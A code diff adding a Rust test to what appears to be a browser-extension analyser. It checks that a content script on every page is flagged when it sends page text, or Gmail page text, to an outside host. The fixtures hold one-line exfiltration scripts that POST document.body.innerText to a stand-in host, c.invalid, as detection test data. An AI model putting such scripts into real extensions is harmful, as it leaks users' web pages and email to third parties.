@@ -91,6 +91,23 @@ fn mail_that_leaves_is_seen_through_every_obfuscation() {
 }
 
 #[test]
+fn what_leaves_every_page_is_no_mail() {
+    let everywhere = |content: &str| {
+        let manifest =
+            r#"{"manifest_version":3,"name":"x","version":"1","content_scripts":[{"matches":["<all_urls>"],"js":["c.js"]}]}"#;
+        let files = [("manifest.json", manifest), ("c.js", content)];
+        arrivals(&run(&Package::from_memory("memory", files.map(|(name, text)| (name, text.as_bytes())))))
+    };
+    let of_pages = everywhere("fetch('https://c.invalid/', { method: 'POST', body: document.body.innerText });");
+    assert_eq!(of_pages, BTreeSet::from(["page.text fetch c.invalid".to_owned()]));
+    let of_mails = everywhere(
+        "if (location.host === 'mail.google.com') fetch('https://c.invalid/', { method: 'POST', body: document.body.innerText });",
+    );
+    assert_eq!(of_mails, BTreeSet::from(["mail.text fetch c.invalid".to_owned()]));
+    assert_eq!(everywhere("fetch('https://c.invalid/?' + document.title);"), BTreeSet::new(), "a title is no mail");
+}
+
+#[test]
 fn the_other_roads_out() {
     for (background, content, flow) in [
         (
